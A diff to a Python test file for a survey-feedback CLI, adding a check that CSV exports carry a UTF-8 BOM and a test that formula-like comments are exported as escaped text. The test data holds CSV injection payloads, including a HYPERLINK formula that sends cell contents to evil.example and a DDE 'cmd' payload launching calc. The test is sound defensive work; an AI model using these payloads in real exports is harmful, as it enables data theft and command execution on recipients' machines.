@@ -409,7 +409,8 @@ def test_results_as_json_csv_and_text(cli: Any, engine: Any, pm: Any, tmp_path: 
         "distribution": [0, 1, 0, 1, 1],
     }
     result = cli("feedback", "results", "--trainer", "TR1", "--format", "csv")
-    rows = list(csv.DictReader(io.StringIO(result.out)))
+    assert result.out.startswith("\ufeff")  # Excel on Chinese Windows reads it as UTF-8
+    rows = list(csv.DictReader(io.StringIO(result.out.removeprefix("\ufeff"))))
     assert [(r["item"], r["kind"], r["count"], r["n5"]) for r in rows[:2]] == [
         ("content", "rating", "3", "1"),
         ("trainer", "rating", "0", "0"),
@@ -491,3 +492,18 @@ def test_the_demo_has_feedback_on_held_sessions_only(demo_database: str) -> None
     engine.dispose()
     assert [status for status, _n in statuses] == ["held"] and statuses[0][1] >= 10
     assert anonymous == 1
+
+
+def test_comments_that_look_like_formulas_are_exported_as_text(cli: Any, engine: Any, pm: Any, tmp_path: Path) -> None:
+    attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"详情")', "+cmd|' /C calc'!A0", "@SUM(1)"]
+    with Session(engine, expire_on_commit=False) as session:
+        first, _second, people = ids(feedback_world(session, pm, tmp_path))
+        survey = default_survey()
+        record_response(session, first, people[0], survey, {"content": 4}, {"comments": attacks[0]}, "browser")
+        record_response(session, first, people[1], survey, {"content": 4}, {"comments": attacks[1]}, "browser")
+        record_response(session, first, None, survey, {"content": 4}, {"comments": attacks[2]}, "paper")
+        session.commit()
+    result = cli("feedback", "results", "--session", "S-QUIZ1", "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(result.out.removeprefix("\ufeff"))))
+    comments = sorted(row["comment"] for row in rows if row["kind"] == "comment")
+    assert comments == sorted("'" + text for text in attacks)
